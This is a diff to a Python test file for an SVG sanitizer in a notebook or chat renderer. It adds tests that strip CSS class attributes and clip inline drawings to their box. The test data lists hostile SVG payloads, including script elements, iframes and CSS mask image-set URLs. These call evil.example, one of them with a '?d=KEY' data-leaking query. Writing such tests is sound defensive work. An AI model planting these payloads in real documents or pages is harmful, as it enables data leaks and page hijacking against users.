@@ -6,7 +6,7 @@ import xml.etree.ElementTree as ET
 
 import pytest
 
-from glm_nb.render import ArtifactError, sanitize_svg
+from glm_nb.render import Artifact, ArtifactError, sanitize_svg
 
 HOSTILE = {
     "script element": '<svg><script>alert(1)</script><circle r="5"/></svg>',
@@ -26,9 +26,9 @@ HOSTILE = {
     "css escape": '<svg><rect style="fill: u\\72l(https://evil.example/)"/></svg>',
     "data url filter": '<svg><rect filter="url(data:image/svg+xml;base64,AAAA)"/></svg>',
     "iframe": '<svg><iframe src="https://evil.example"/></svg>',
-    "mask image-set": '<svg><rect mask="image-set(\'https://evil.example/x?d=KEY\' 1x)"/></svg>',
-    "style mask image-set": '<svg><rect style="mask: -webkit-image-set(\'https://evil.example/x\' 1x)"/></svg>',
-    "style mask image": '<svg><rect style="mask: image(\'https://evil.example/x.png\')"/></svg>',
+    "mask image-set": "<svg><rect mask=\"image-set('https://evil.example/x?d=KEY' 1x)\"/></svg>",
+    "style mask image-set": "<svg><rect style=\"mask: -webkit-image-set('https://evil.example/x' 1x)\"/></svg>",
+    "style mask image": "<svg><rect style=\"mask: image('https://evil.example/x.png')\"/></svg>",
     "processing instruction": '<?xml-stylesheet href="https://evil.example/a.xsl"?><svg><circle r="1"/></svg>',
 }
 
@@ -85,3 +85,19 @@ def test_text_after_a_dropped_element_is_kept():
 def test_unusable_svg_is_refused_with_a_reason(source, message):
     with pytest.raises(ArtifactError, match=message):
         sanitize_svg(source)
+
+
+def test_a_drawing_takes_up_none_of_the_pages_own_css_classes():
+    # the sheets a class could name are dropped, so a class only picks up the page's CSS: JupyterLab's jp-Dialog is
+    # a full-window overlay, which a drawing inline in the page (the chat panel, the HTML fallback) would become
+    clean = sanitize_svg('<svg class="jp-Dialog lm-Widget"><rect class="a" width="5" height="5"/></svg>')
+
+    assert "class" not in clean.markup
+    assert clean.removed == ("attribute class on <svg>", "attribute class on <rect>")
+
+
+def test_an_inline_drawing_is_clipped_to_its_own_box():
+    # `transform` draws a drawing's own shapes, but on the root it could move or scale the drawing over the page
+    page = Artifact.from_block("svg", '<svg style="transform: translate(-400px, -300px) scale(20)"></svg>').html()
+
+    assert page.startswith('<div class="glm-nb-svg" style="overflow:hidden;contain:paint"><svg')
